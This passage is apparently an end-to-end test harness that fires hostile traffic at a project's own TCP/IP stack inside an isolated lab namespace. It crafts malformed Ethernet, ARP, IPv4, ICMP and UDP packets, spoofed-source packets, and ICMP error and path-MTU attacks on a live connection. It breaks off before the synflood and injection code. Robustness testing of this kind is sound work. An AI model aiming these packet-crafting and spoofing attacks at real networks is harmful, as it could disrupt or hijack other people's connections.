// Sends hostile input at the direct stack from the lab's host-only peer namespace, for test/e2e/hostile.test.ts:
//
//   ip netns exec NAME-peer node --import tsx test/e2e/hostile-sender.ts ATTACK [--key value]…
//
// ATTACK is one of ethernet, ipv4, icmp-udp, tcp, fragments, synflood, inject. Packets are built with the
// project's own encoders (buildIpv4, encodeTcp, encodeUdp, encodeIcmp, encodeArp, buildEthernet) and then broken
// by hand where the attack needs it. Two ways out:
//
// - raw-socket (IPPROTO_RAW, so IP_HDRINCL): for packets whose IPv4 header is well-formed. The kernel rewrites the
//   header's total length and checksum (raw(7)), and refuses (EINVAL) a header length below 5 or past the packet,
//   so malformed IPv4 headers cannot go this way.
// - AF_PACKET, through a few lines of python3's standard library (programs/af-packet-send.py) fed hex frames on
//   stdin: exact Ethernet frames, for malformed Ethernet, ARP and IPv4 headers. (Node has no AF_PACKET; raw-socket
//   has none either.)
//
// `inject` also sniffs, with a raw IPPROTO_TCP socket, what the stack sends to the live echo connection, to learn
// its sequence numbers (SND.NXT and RCV.NXT) from the ACK it answers an out-of-window probe with.
//
// Every destination is the stack (--dst, in 192.168.77.0/24 inside the lab); spoofed sources are lab addresses that
// exist in no namespace (192.168.77.201–254) or the stack's own. The program bounds itself (--limit-ms) and prints
// one JSON report as its last line of output.

import { spawn } from 'node:child_process';
import { randomInt } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { fileURLToPath } from 'node:url';
import { ARP_REPLY, ARP_REQUEST, encodeArp } from '../../src/arp/arp-wire.ts';
import { ipv4ToString, parseIpv4 as parseAddr, parseMac, type Ipv4Addr, type MacAddr } from '../../src/net/addr.ts';
import { checksum, finish, ipv4Pseudo, pseudoHeaderSum, sumBytes } from '../../src/net/checksum.ts';
import { buildEthernet, ETHERTYPE_ARP, ETHERTYPE_IPV4 } from '../../src/net/ethernet.ts';
import { encodeIcmp, ICMP_DEST_UNREACHABLE, ICMP_ECHO_REQUEST, ICMP_PARAMETER_PROBLEM, ICMP_REDIRECT, ICMP_TIME_EXCEEDED } from '../../src/net/icmp-wire.ts';
import { buildIpv4, parseIpv4, PROTO_ICMP, PROTO_TCP, PROTO_UDP, type Ipv4Out } from '../../src/net/ipv4-wire.ts';
import { ACK, encodeTcp, FIN, parseTcp, PSH, RST, SYN, URG, type TcpOptions, type TcpSegment } from '../../src/net/tcp/tcp-wire.ts';
import { encodeUdp } from '../../src/net/udp-wire.ts';

// --- raw-socket, typed here (the package ships no types) ---------------------------------------------------------

interface RawSocket {
  /** raw-socket's own queue of sends waiting for the socket to be writable, and whether it polls for that. */
  requests?: unknown[];
  sendPaused?: boolean;
  recvPaused?: boolean;
  send(buffer: Buffer, offset: number, length: number, address: string, after: (error: Error | null, bytes: number) => void): unknown;
  pauseSend(): unknown;
  resumeSend(): unknown;
  on(event: 'message', listener: (buffer: Buffer, source: string) => void): unknown;
  on(event: 'error', listener: (error: Error) => void): unknown;
  close(): unknown;
}
interface RawSocketModule {
  createSocket(options: { protocol: number; bufferSize?: number }): RawSocket;
}
const IPPROTO_RAW = 255;

function loadRawSocket(): RawSocketModule {
  const required: unknown = createRequire(import.meta.url)('raw-socket');
  if (typeof required !== 'object' || required === null || typeof (required as { createSocket?: unknown }).createSocket !== 'function') {
    throw new Error('raw-socket did not load (npm install --save-exact raw-socket@1.8.1 builds its addon with node-gyp)');
  }
  return required as RawSocketModule;
}

// --- arguments ---------------------------------------------------------------------------------------------------

const ATTACKS = ['ethernet', 'ipv4', 'icmp-udp', 'tcp', 'fragments', 'synflood', 'inject'] as const;
type Attack = (typeof ATTACKS)[number];

function usage(msg: string): never {
  process.stderr.write(`hostile-sender: ${msg}\nusage: hostile-sender.ts ${ATTACKS.join('|')} [--dst A] [--src A] [--dst-mac M] [--iface IF] ...\n`);
  process.exit(64);
}

const argv = process.argv.slice(2);
const attackArg = argv[0] ?? '';
if (!(ATTACKS as readonly string[]).includes(attackArg)) usage(`unknown attack '${attackArg}'`);
const attack = attackArg as Attack;
const opts = new Map<string, string>();
for (let i = 1; i < argv.length; i += 2) {
  const k = argv[i] ?? '';
  const v = argv[i + 1];
  if (!k.startsWith('--') || v === undefined) usage(`bad argument '${k}'`);
  opts.set(k.slice(2), v);
}
const str = (k: string, d: string): string => opts.get(k) ?? d;
const num = (k: string, d: number): number => {
  const v = opts.get(k);
  if (v === undefined) return d;
  const n = Number(v);
  if (!Number.isFinite(n)) usage(`--${k} wants a number`);
  return n;
};
const addr = (k: string, d: string): Ipv4Addr => parseAddr(str(k, d)) ?? usage(`--${k} wants an IPv4 address`);

const DST = addr('dst', '192.168.77.10');
const DST_S = ipv4ToString(DST);
const SRC = addr('src', '192.168.77.1');
const DST_MAC: MacAddr = parseMac(str('dst-mac', '02:00:5e:00:00:42')) ?? usage('--dst-mac wants a MAC');
const IFACE = str('iface', 'veth0');
const HTTP_PORT = num('http-port', 8088);
const ECHO_PORT = num('echo-port', 7);
const CLOSED_PORT = num('closed-port', 9);
const CLIENT_PORT = num('client-port', 0);
const LIMIT_MS = num('limit-ms', 60_000);
const SEED = num('seed', randomInt(1, 2 ** 31));
/** For `inject`: a window no receiver of ours can have (the README's receive buffer bound). */
const MAX_WINDOW = num('max-window', 256 * 1024);
const PHASE = str('phase', '');
if (!/^[A-Za-z0-9_.-]{1,15}$/.test(IFACE)) usage('--iface wants an interface name');
const SUBNET = DST & 0xffffff00;
const lab = (host: number): Ipv4Addr => (SUBNET | host) >>> 0;

// A seeded PRNG (mulberry32), so that a run can be repeated with --seed.
let prngState = SEED >>> 0;
function rand32(): number {
  prngState = (prngState + 0x6d2b79f5) >>> 0;
  let t = prngState;
  t = Math.imul(t ^ (t >>> 15), t | 1);
  t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
  return (t ^ (t >>> 14)) >>> 0;
}
/** An integer in [lo, hi]. */
const between = (lo: number, hi: number): number => lo + (rand32() % (hi - lo + 1));
function randomBytes(n: number): Uint8Array {
  const b = new Uint8Array(n);
  for (let i = 0; i < n; i++) b[i] = rand32() & 0xff;
  return b;
}
const text = (s: string): Uint8Array => new TextEncoder().encode(s);
/** `s` repeated to exactly n bytes. */
const filled = (s: string, n: number): Uint8Array => text(s.repeat(Math.ceil(n / Math.max(1, s.length))).slice(0, n));
const seqAdd = (a: number, b: number): number => (a + b) >>> 0;

/**
 * Source ports for our own TCP and UDP: below Linux's ephemeral range (32768–60999), so never the port of a real
 * socket of the peer's kernel (the live echo connection above all).
 */
const ourPort = (): number => between(10_000, 30_000);

// --- the report --------------------------------------------------------------------------------------------------

/** The JSON report printed as the last line (hostile.test.ts reads it; the attacks add their own fields). */
export interface Report {
  attack: Attack;
  phase?: string;
  seed: number;
  ms: number;
  /** Packets handed to the kernel, by category. */
  sent: Record<string, number>;
  total: number;
  errors: number;
  lastError?: string;
  how: 'done' | 'time limit';
  [extra: string]: unknown;
}

const t0 = Date.now();
const report: Report = { attack, seed: SEED, ms: 0, sent: {}, total: 0, errors: 0, how: 'done' };
if (PHASE !== '') report.phase = PHASE;
let printed = false;
function printReport(): void {
  if (printed) return;
  printed = true;
  report.ms = Date.now() - t0;
  report.total = Object.values(report.sent).reduce((a, b) => a + b, 0);
  process.stdout.write(`${JSON.stringify(report)}\n`);
}
/** What the raw socket was doing, for the report when time runs out. */
let rawState: () => unknown = () => undefined;
const hardStop = setTimeout(() => {
  report.how = 'time limit';
  report.rawSocket = rawState();
  printReport();
  process.exit(3);
}, LIMIT_MS + 5000);
const timeLeft = (): number => LIMIT_MS - (Date.now() - t0);

function noteError(err: Error): void {
  report.errors++;
  report.lastError = err.message;
}

// --- ways out ----------------------------------------------------------------------------------------------------

interface Packet {
  category: string;
  bytes: Uint8Array;
}

/** IPv4 packets through a raw IPPROTO_RAW socket (the kernel routes by --dst and fixes length and checksum). */
class RawIp {
  private readonly sock: RawSocket;
  constructor(mod: RawSocketModule) {
    this.sock = mod.createSocket({ protocol: IPPROTO_RAW });
    this.sock.on('error', noteError);
    rawState = () => ({ queued: this.sock.requests?.length, sendPaused: this.sock.sendPaused, recvPaused: this.sock.recvPaused });
  }

  private one(p: Packet): Promise<void> {
    const buf = Buffer.from(p.bytes.buffer, p.bytes.byteOffset, p.bytes.length);
    return new Promise((resolve) => {
      this.sock.send(buf, 0, buf.length, DST_S, (err) => {
        if (err !== null) noteError(err);
        else report.sent[p.category] = (report.sent[p.category] ?? 0) + 1;
        resolve();
      });
    });
  }

  /**
   * Sends in batches of `batch` (one batch in flight at a time), pausing `pauseMs` between; stops at the time limit.
   * raw-socket sends from its queue only when libuv reports the socket writable; should a batch make no progress
   * for a second, the poll is restarted (pauseSend, resumeSend) and the stall counted in the report.
   */
  async sendAll(packets: Packet[], batch = 64, pauseMs = 2): Promise<void> {
    for (let i = 0; i < packets.length; i += batch) {
      if (timeLeft() <= 0) {
        report.how = 'time limit';
        return;
      }
      let done = 0;
      const all = Promise.all(packets.slice(i, i + batch).map((p) => this.one(p).then(() => void done++)));
      let finished = false;
      void all.then(() => (finished = true));
      let seen = -1;
      while (!finished) {
        // Not a wait for something: a watchdog, woken by the batch's end or every second to look for progress.
        await Promise.race([all, sleep(1000)]);
        if (finished || timeLeft() <= 0) break;
        if (done === seen) {
          report.rawStalls = (Number(report.rawStalls) || 0) + 1;
          report.rawStallState = rawState();
          this.sock.pauseSend();
          this.sock.resumeSend();
        }
        seen = done;
      }
      if (!finished) {
        report.how = 'time limit';
        return;
      }
      // Pacing, part of the attack: a pause between batches keeps the TAP's queue in front of the stack from
      // overflowing (the kernel would drop what the test wants the stack to see). Nothing waits on it.
      if (pauseMs > 0) await sleep(pauseMs);
    }
  }

  close(): void {
    this.sock.close();
  }
}

/** A python3 program (standard library only) that writes each hex line of its stdin to an AF_PACKET socket. */
const AF_PACKET_SEND = fileURLToPath(new URL('./programs/af-packet-send.py', import.meta.url));

/** Sends exact Ethernet frames on --iface; each category is counted once python has sent the lot. */
async function sendFrames(frames: Packet[], pauseS = 0.002): Promise<void> {
  const child = spawn('python3', [AF_PACKET_SEND, IFACE, String(pauseS)], { stdio: ['pipe', 'pipe', 'pipe'], timeout: Math.max(1000, timeLeft()) });
  let out = '';
  let err = '';
  child.stdout.on('data', (d: Buffer) => (out += d.toString()));
  child.stderr.on('data', (d: Buffer) => (err += d.toString()));
  const closed = new Promise<number | null>((resolve) => {
    child.on('close', resolve);
    child.on('error', (e) => {
      err += e.message;
      resolve(null);
    });
  });
  child.stdin.on('error', () => {});
  child.stdin.end(frames.map((f) => Buffer.from(f.bytes).toString('hex')).join('\n') + '\n');
  const code = await closed;
  let res: { sent: number; errors: number; lastError: string } | undefined;
  try {
    res = JSON.parse(out.trim().split('\n').pop() ?? '') as { sent: number; errors: number; lastError: string };
  } catch {
    res = undefined;
  }
  if (code !== 0 || res === undefined) {
    noteError(new Error(`python3 ${AF_PACKET_SEND} exited ${code}: ${err.trim() || out.trim()}`));
    return;
  }
  if (res.errors > 0) {
    report.errors += res.errors;
    report.lastError = res.lastError;
    return; // which frames failed is unknown: count none of them as sent
  }
  for (const f of frames) report.sent[f.category] = (report.sent[f.category] ?? 0) + 1;
}

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

// --- building blocks ---------------------------------------------------------------------------------------------

const OUR_MAC: MacAddr = parseMac(readFileSync(`/sys/class/net/${IFACE}/address`, 'utf8').trim()) ?? usage(`no MAC for ${IFACE}`);

function eth(payload: Uint8Array, ethertype = ETHERTYPE_IPV4, dst: MacAddr = DST_MAC): Uint8Array {
  return buildEthernet({ dst, src: OUR_MAC, ethertype }, payload);
}

let nextIpId = between(1, 0xffff);
/** A fresh, non-zero IPv4 identification (zero would let the kernel pick one). */
function ipId(): number {
  nextIpId = (nextIpId % 0xffff) + 1;
  return nextIpId;
}

function ip(protocol: number, payload: Uint8Array, over: Partial<Ipv4Out> = {}): Uint8Array {
  return buildIpv4({ id: ipId(), ttl: 64, protocol, src: SRC, dst: DST, ...over }, payload);
}

function echoRequest(id: number, data: Uint8Array = filled('hostile-echo ', 32)): Uint8Array {
  return encodeIcmp({ type: ICMP_ECHO_REQUEST, code: 0, rest: ((id << 16) | 1) >>> 0, data });
}

/** Recomputes the IPv4 header checksum of `b` over `headerLen` bytes (for hand-edited headers). */
function fixIpChecksum(b: Uint8Array, headerLen = ((b[0] ?? 0) & 0x0f) * 4): Uint8Array {
  b[10] = 0;
  b[11] = 0;
  const c = checksum(b, 0, Math.min(headerLen, b.length));
  b[10] = c >>> 8;
  b[11] = c;
  return b;
}

/** An IPv4 header of `ihl` words with `options` (padded with EOL), valid checksum, around `payload`. */
function ipWithOptions(protocol: number, options: number[], payload: Uint8Array, ihl = 5 + Math.ceil(options.length / 4)): Uint8Array {
  const hl = ihl * 4;
  const b = new Uint8Array(hl + payload.length);
  const plain = buildIpv4({ id: ipId(), ttl: 64, protocol, src: SRC, dst: DST }, new Uint8Array(0));
  b.set(plain.subarray(0, 20));
  b.set(options.slice(0, hl - 20), 20);
  b[0] = 0x40 | ihl;
  b[2] = b.length >>> 8;
  b[3] = b.length;
  b.set(payload, hl);
  return fixIpChecksum(b, hl);
}

function tcpSeg(s: Partial<TcpSegment> & { dstPort: number }, src = SRC, dst = DST): Uint8Array {
  const seg: TcpSegment = { srcPort: ourPort(), seq: rand32(), ack: 0, flags: 0, window: 65535, urgent: 0, options: {}, payload: new Uint8Array(0), ...s };
  return encodeTcp(seg, ipv4Pseudo(src, dst, PROTO_TCP));
}

/** Rewrites the TCP checksum of a hand-edited segment `b` (src/dst as in the IPv4 header it will travel in). */
function fixTcpChecksum(b: Uint8Array, src = SRC, dst = DST): Uint8Array {
  b[16] = 0;
  b[17] = 0;
  const c = finish(sumBytes(b, 0, b.length, pseudoHeaderSum(src, dst, PROTO_TCP, b.length)));
  b[16] = c >>> 8;
  b[17] = c;
  return b;
}

/** A 20-byte TCP header with data offset `words` and `optionBytes` after it, checksum valid. */
function tcpRaw(dstPort: number, flags: number, words: number, optionBytes: number[], payload: Uint8Array = new Uint8Array(0)): Uint8Array {
  const base = tcpSeg({ dstPort, flags });
  const b = new Uint8Array(20 + optionBytes.length + payload.length);
  b.set(base.subarray(0, 20));
  b.set(optionBytes, 20);
  b.set(payload, 20 + optionBytes.length);
  b[12] = (words & 0x0f) << 4;
  return fixTcpChecksum(b);
}

const pkt = (category: string, bytes: Uint8Array): Packet => ({ category, bytes });

// --- the attacks -------------------------------------------------------------------------------------------------

/** Malformed Ethernet and ARP frames (AF_PACKET). */
async function ethernetAttack(): Promise<void> {
  const f: Packet[] = [];
  const ping = ip(PROTO_ICMP, echoRequest(0x4500));
  // Header-only frames of every kind that matters, and unknown or odd EtherTypes.
  for (const t of [0x0800, 0x0806, 0x86dd, 0x88cc, 0x0000, 0x05dc, 0x0600, 0xffff]) f.push(pkt('header-only', eth(new Uint8Array(0), t)));
  // A VLAN EtherType with no tag after it: the kernel drops these before the bridge (it cannot pull the tag).
  for (const t of [0x8100, 0x88a8]) f.push(pkt('vlan-header-only', eth(new Uint8Array(0), t)));
  for (const t of [0x86dd, 0x88cc, 0x0000, 0x05dc, 0xffff, 0x9000]) f.push(pkt('unknown-type', eth(randomBytes(46), t)));
  // An 802.3 length field (LLC) and an 802.1Q tag in front of a good ping.
  f.push(pkt('llc', eth(Uint8Array.from([0xaa, 0xaa, 0x03, 0, 0, 0, 0x08, 0x00, ...ping]), ping.length + 8)));
  f.push(pkt('vlan', eth(Uint8Array.from([0x00, 0x05, 0x08, 0x00, ...ping]), 0x8100)));
  // A good ping to other destinations: broadcast and multicast MACs, someone else's unicast MAC.
  for (const m of ['ff:ff:ff:ff:ff:ff', '01:00:5e:00:00:01', '33:33:00:00:00:01', '02:00:5e:00:00:99']) {
    f.push(pkt('other-dst-mac', eth(ping, ETHERTYPE_IPV4, parseMac(m) ?? 0)));
  }
  // A frame from a multicast or broadcast source MAC (the bridge drops these: they never reach the stack).
  {
    const b = eth(ping);
    b.set([0xff, 0xff, 0xff, 0xff, 0xff, 0xff], 6);
    f.push(pkt('bad-src-mac', b));
    const c = eth(ping);
    c.set([0x01, 0x00, 0x5e, 0x01, 0x02, 0x03], 6);
    f.push(pkt('bad-src-mac', c));
  }
  // ARP: a good request for the stack's address from an absent sender (a control), then broken ones.
  const absent = lab(250);
  const good = encodeArp({ op: ARP_REQUEST, sha: OUR_MAC, spa: absent, tha: 0, tpa: DST });
  f.push(pkt('arp-control', eth(good, ETHERTYPE_ARP)));
  for (const n of [0, 1, 8, 20, 27]) f.push(pkt('arp-truncated', eth(good.subarray(0, n), ETHERTYPE_ARP)));
  const mutate = (i: number, v: number[]): Uint8Array => {
    const b = Uint8Array.from(good);
    b.set(v, i);
    return b;
  };
  for (const h of [[0, 0], [0xff, 0xff], [0, 6]]) f.push(pkt('arp-htype', eth(mutate(0, h), ETHERTYPE_ARP)));
  for (const p of [[0x86, 0xdd], [0, 0], [0x08, 0x06]]) f.push(pkt('arp-ptype', eth(mutate(2, p), ETHERTYPE_ARP)));
  for (const l of [[0, 4], [5, 4], [255, 4], [6, 0], [6, 16], [6, 255], [255, 255], [0, 0]]) f.push(pkt('arp-lengths', eth(mutate(4, l), ETHERTYPE_ARP)));
  for (const o of [[0, 0], [0, 3], [0, 4], [0xff, 0xff], [1, 1]]) f.push(pkt('arp-opcode', eth(mutate(6, o), ETHERTYPE_ARP)));
  // Impossible senders: zero, broadcast and multicast MACs; zero, broadcast, multicast and loopback addresses.
  for (const sha of ['00:00:00:00:00:00', 'ff:ff:ff:ff:ff:ff', '01:00:5e:00:00:01']) {
    f.push(pkt('arp-bad-sender', eth(encodeArp({ op: ARP_REQUEST, sha: parseMac(sha) ?? 0, spa: absent, tha: 0, tpa: DST }), ETHERTYPE_ARP)));
  }
  for (const spa of ['0.0.0.0', '255.255.255.255', '192.168.77.255', '224.0.0.1', '127.0.0.1']) {
    f.push(pkt('arp-bad-sender', eth(encodeArp({ op: ARP_REQUEST, sha: OUR_MAC, spa: parseAddr(spa) ?? 0, tha: 0, tpa: DST }), ETHERTYPE_ARP)));
  }
  // Unsolicited replies about absent hosts, requests for other addresses, and a request with 1500 bytes of trailer.
  for (let i = 0; i < 5; i++) {
    f.push(pkt('arp-unsolicited', eth(encodeArp({ op: ARP_REPLY, sha: OUR_MAC, spa: lab(240 + i), tha: DST_MAC, tpa: DST }), ETHERTYPE_ARP)));
    f.push(pkt('arp-not-for-us', eth(encodeArp({ op: ARP_REQUEST, sha: OUR_MAC, spa: absent, tha: 0, tpa: lab(230 + i) }), ETHERTYPE_ARP)));
  }
  f.push(pkt('arp-trailer', eth(Uint8Array.from([...good, ...randomBytes(1472)]), ETHERTYPE_ARP)));
  await sendFrames(f);
}

/** The expectation for each echo request an attack sent: the stack must drop it, must answer it, or either. */
type Expect = 'drop' | 'reply' | 'any';

/** Malformed IPv4 headers (AF_PACKET), each carrying an ICMP echo request with an id of its own. */
async function ipv4Attack(): Promise<void> {
  const f: Packet[] = [];
  const cases: Array<{ id: number; expect: Expect; what: string }> = [];
  let nextId = 0x4000 + between(0, 0x0f00);
  const add = (what: string, expect: Expect, build: (icmp: Uint8Array) => Uint8Array, category = what.split(' ')[0] ?? what): void => {
    const id = nextId++;
    cases.push({ id, expect, what });
    f.push(pkt(category, eth(build(echoRequest(id)))));
  };
  const edit = (b: Uint8Array, fn: (b: Uint8Array) => void, fix = true): Uint8Array => {
    fn(b);
    return fix ? fixIpChecksum(b) : b;
  };

  add('control (well-formed)', 'reply', (m) => ip(PROTO_ICMP, m), 'control');
  for (const v of [0, 5, 6, 15]) {
    add(`version ${v}`, 'drop', (m) => edit(ip(PROTO_ICMP, m), (b) => (b[0] = (v << 4) | 5)));
  }
  // Header lengths below 5 words, the checksum right over the 20 bytes there are.
  for (const ihl of [0, 1, 2, 3, 4]) add(`ihl ${ihl}`, 'drop', (m) => fixIpChecksum(edit(ip(PROTO_ICMP, m), (b) => (b[0] = 0x40 | ihl), false), 20));
  // A header length past the packet: 60 bytes claimed in a 48-byte packet; 24 in a bare 20-byte header.
  add('ihl past-packet 15', 'drop', (m) => fixIpChecksum(edit(ip(PROTO_ICMP, m.subarray(0, 28)), (b) => (b[0] = 0x4f), false), 20));
  add('ihl past-packet 6', 'drop', () => edit(ip(PROTO_ICMP, new Uint8Array(0)), (b) => (b[0] = 0x46)));
  // Total length larger than the packet, smaller than the header, smaller than the header length.
  for (const d of [1, 8, 100]) add(`total-length +${d}`, 'drop', (m) => edit(ip(PROTO_ICMP, m), (b) => { const n = b.length + d; b[2] = n >>> 8; b[3] = n; }), 'total-length-long');
  add('total-length 65535', 'drop', (m) => edit(ip(PROTO_ICMP, m), (b) => { b[2] = 0xff; b[3] = 0xff; }), 'total-length-long');
  for (const n of [0, 1, 19]) add(`total-length ${n}`, 'drop', (m) => edit(ip(PROTO_ICMP, m), (b) => { b[2] = 0; b[3] = n; }), 'total-length-short');
  add('total-length below ihl', 'drop', (m) => {
    const b = ipWithOptions(PROTO_ICMP, [1, 1, 1, 0], m);
    b[2] = 0;
    b[3] = 22;
    return fixIpChecksum(b);
  }, 'total-length-short');
  // Total length shorter than the packet: the rest is trailer. Cut mid-ICMP it must drop; whole ICMP it may answer.
  add('total-length cuts-icmp', 'drop', (m) => edit(ip(PROTO_ICMP, m), (b) => { b[2] = 0; b[3] = 24; }), 'total-length-short');
  add('total-length trailer', 'reply', (m) => {
    const p = ip(PROTO_ICMP, m);
    const b = new Uint8Array(p.length + 64);
    b.set(p);
    b.set(randomBytes(64), p.length);
    return b;
  }, 'total-length-trailer');
  // Bad header checksums.
  for (const x of [0x0001, 0x8000, 0xffff]) add(`checksum xor ${x}`, 'drop', (m) => edit(ip(PROTO_ICMP, m), (b) => { b[10] = (b[10] ?? 0) ^ (x >>> 8); b[11] = (b[11] ?? 0) ^ (x & 0xff); }, false), 'checksum');
  add('checksum zero', 'drop', (m) => edit(ip(PROTO_ICMP, m), (b) => { if (b[10] !== 0 || b[11] !== 0) { b[10] = 0; b[11] = 0; } else b[11] = 1; }, false), 'checksum');
  // Options with bad lengths (checksums right): the stack skips options, so answering is allowed, crashing is not.
  const badOptions: Array<[string, number[]]> = [
    ['len 0 (timestamp)', [0x44, 0, 5, 0]],
    ['len 1 (timestamp)', [0x44, 1, 5, 0]],
    ['len 0 (unknown)', [0x99, 0, 0, 0]],
    ['len past header (record route)', [0x07, 39, 4, 0]],
    ['len 255 (LSRR)', [0x83, 255, 4, 0, 0, 0, 0, 0]],
    ['len past header (security)', [0x82, 11, 0, 0, 0, 0, 0, 0]],
    ['kind without length at the end', [1, 1, 1, 0x94]],
    ['pointer past option (record route)', [0x07, 7, 200, 0, 0, 0, 0, 0]],
    ['40 bytes of NOP', new Array<number>(40).fill(1)],
    ['40 bytes of random', Array.from(randomBytes(40))],
  ];
  for (const [what, o] of badOptions) add(`options ${what}`, 'any', (m) => ipWithOptions(PROTO_ICMP, o, m), 'options');
  add('options valid (router alert)', 'any', (m) => ipWithOptions(PROTO_ICMP, [0x94, 4, 0, 0], m), 'options');
  // Flags and fields: the reserved flag, TTL 0, protocol numbers nobody serves.
  add('reserved-flag', 'any', (m) => edit(ip(PROTO_ICMP, m), (b) => (b[6] = (b[6] ?? 0) | 0x80)));
  add('ttl 0', 'any', (m) => ip(PROTO_ICMP, m, { ttl: 0 }));
  for (const p of [0, 253, 255]) add(`protocol ${p}`, 'drop', (m) => ip(p, m), 'protocol');
  // Impossible sources: the stack's own address (a "land" packet), broadcast, multicast; and other destinations.
  for (const s of [ipv4ToString(DST), '255.255.255.255', '224.0.0.1', ipv4ToString(lab(255))]) {
    const expect: Expect = s === ipv4ToString(lab(255)) ? 'any' : 'drop';
    add(`bad-source ${s}`, expect, (m) => ip(PROTO_ICMP, m, { src: parseAddr(s) ?? 0 }), 'bad-source');
  }
  for (const s of ['0.0.0.0', '127.0.0.1']) add(`odd-source ${s}`, 'any', (m) => ip(PROTO_ICMP, m, { src: parseAddr(s) ?? 0 }), 'odd-source');
  for (const d of [ipv4ToString(lab(11)), '10.255.255.1', ipv4ToString(lab(255)), '255.255.255.255']) {
    add(`other-destination ${d}`, 'drop', (m) => ip(PROTO_ICMP, m, { dst: parseAddr(d) ?? 0 }), 'other-destination');
  }
  // The same broken headers again, back to back, a few times over.
  const n = f.length;
  for (let r = 0; r < 3; r++) for (let i = 1; i < n; i++) f.push(pkt('repeat', f[i]?.bytes ?? new Uint8Array(0)));
  report.echoCases = cases;
  await sendFrames(f);
}

/** Malformed ICMP and UDP (raw-socket: IPv4 headers well-formed). */
async function icmpUdpAttack(): Promise<void> {
  const p: Packet[] = [];
  const cases: Array<{ id: number; expect: Expect; what: string }> = [];
  let nextId = 0x5000 + between(0, 0x0f00);
  const echo = (what: string, expect: Expect, fn: (m: Uint8Array) => Uint8Array, data?: Uint8Array): void => {
    const id = nextId++;
    cases.push({ id, expect, what });
    p.push(pkt(what.split(' ')[0] ?? what, ip(PROTO_ICMP, fn(echoRequest(id, data)))));
  };
  echo('control', 'reply', (m) => m);
  echo('control-1472 (largest unfragmented)', 'reply', (m) => m, randomBytes(1472));
  for (let n = 0; n < 8; n++) echo(`icmp-truncated ${n}`, 'drop', (m) => m.subarray(0, n));
  for (const x of [1, 0x100, 0xffff]) echo(`icmp-checksum xor ${x}`, 'drop', (m) => { const b = Uint8Array.from(m); b[2] = (b[2] ?? 0) ^ (x >>> 8); b[3] = (b[3] ?? 0) ^ (x & 0xff); return b; });
  echo('icmp-odd-length', 'reply', (m) => m, randomBytes(33));
  for (const code of [1, 7, 255]) echo(`icmp-echo-code ${code}`, 'any', () => encodeIcmp({ type: ICMP_ECHO_REQUEST, code, rest: ((nextId - 1) << 16) >>> 0, data: randomBytes(8) }));
  // Every type but echo request, checksum right, quoting junk.
  for (let t = 0; t < 256; t++) if (t !== ICMP_ECHO_REQUEST) p.push(pkt('icmp-every-type', ip(PROTO_ICMP, encodeIcmp({ type: t, code: between(0, 15), rest: rand32(), data: randomBytes(28) }))));
  // Errors quoting the live echo connection with a random sequence number (RFC 5927: must not kill it), and
  // errors quoting nonsense: a truncated header, a header length of 15, an ICMP error inside an ICMP error.
  const quoteTcp = (sport: number, dport: number): Uint8Array => {
    const inner = buildIpv4({ id: ipId(), ttl: 64, protocol: PROTO_TCP, src: DST, dst: SRC }, new Uint8Array(8));
    const t = inner.subarray(20);
    t.set([sport >>> 8, sport & 0xff, dport >>> 8, dport & 0xff]);
    const s = rand32();
    t.set([s >>> 24, (s >>> 16) & 0xff, (s >>> 8) & 0xff, s & 0xff], 4);
    return inner;
  };
  const livePort = CLIENT_PORT > 0 ? CLIENT_PORT : ourPort();
  for (let code = 0; code < 16; code++) p.push(pkt('icmp-error-live', ip(PROTO_ICMP, encodeIcmp({ type: ICMP_DEST_UNREACHABLE, code, rest: code === 4 ? 68 : 0, data: quoteTcp(ECHO_PORT, livePort) }))));
  for (const [type, code, rest] of [[ICMP_TIME_EXCEEDED, 0, 0], [ICMP_PARAMETER_PROBLEM, 0, 0x14000000], [4, 0, 0], [ICMP_REDIRECT, 1, lab(201)]] as const) {
    p.push(pkt('icmp-error-live', ip(PROTO_ICMP, encodeIcmp({ type, code, rest: rest >>> 0, data: quoteTcp(ECHO_PORT, livePort) }))));
  }
  p.push(pkt('icmp-error-junk', ip(PROTO_ICMP, encodeIcmp({ type: ICMP_DEST_UNREACHABLE, code: 3, rest: 0, data: quoteTcp(HTTP_PORT, 1).subarray(0, 4) }))));
  { const q = quoteTcp(ECHO_PORT, livePort); q[0] = 0x4f; p.push(pkt('icmp-error-junk', ip(PROTO_ICMP, encodeIcmp({ type: ICMP_DEST_UNREACHABLE, code: 2, rest: 0, data: q })))); }
  p.push(pkt('icmp-error-junk', ip(PROTO_ICMP, encodeIcmp({ type: ICMP_DEST_UNREACHABLE, code: 3, rest: 0, data: ip(PROTO_ICMP, encodeIcmp({ type: 3, code: 3, rest: 0, data: randomBytes(28) })) }))));
  // Fragmentation needed with a next-hop MTU of 0 and 68 (a path-MTU attack on the live connection).
  for (const mtu of [0, 1, 68]) p.push(pkt('icmp-error-live', ip(PROTO_ICMP, encodeIcmp({ type: ICMP_DEST_UNREACHABLE, code: 4, rest: mtu, data: quoteTcp(ECHO_PORT, livePort) }))));

  // UDP: truncated, length field wrong both ways, bad checksums, no checksum, closed ports, odd ports.
  const udp = (dstPort: number, payload: Uint8Array, srcPort = ourPort()): Uint8Array => encodeUdp({ srcPort, dstPort, payload }, ipv4Pseudo(SRC, DST, PROTO_UDP));
  for (let n = 0; n < 8; n++) p.push(pkt('udp-truncated', ip(PROTO_UDP, udp(7, randomBytes(16)).subarray(0, n))));
  const withLength = (len: number): Uint8Array => {
    const b = udp(7, randomBytes(16));
    b[4] = len >>> 8;
    b[5] = len & 0xff;
    return b;
  };
  for (const len of [0, 1, 7]) p.push(pkt('udp-length-short', ip(PROTO_UDP, withLength(len))));
  for (const len of [25, 100, 65535]) p.push(pkt('udp-length-long', ip(PROTO_UDP, withLength(len))));
  p.push(pkt('udp-length-trailer', ip(PROTO_UDP, withLength(16)))); // claims less than it carries: the rest is trailer
  for (const x of [1, 0x100, 0x8000]) {
    const b = udp(9999, randomBytes(20));
    b[6] = (b[6] ?? 0) ^ (x >>> 8);
    b[7] = (b[7] ?? 0) ^ (x & 0xff);
    if (b[6] === 0 && b[7] === 0) b[7] = 1;
    p.push(pkt('udp-checksum', ip(PROTO_UDP, b)));
  }
  { const b = udp(9999, randomBytes(20)); b[6] = 0; b[7] = 0; p.push(pkt('udp-no-checksum', ip(PROTO_UDP, b))); }
  for (let i = 0; i < 50; i++) p.push(pkt('udp-closed-port', ip(PROTO_UDP, udp(between(1, 65535), randomBytes(between(0, 64))))));
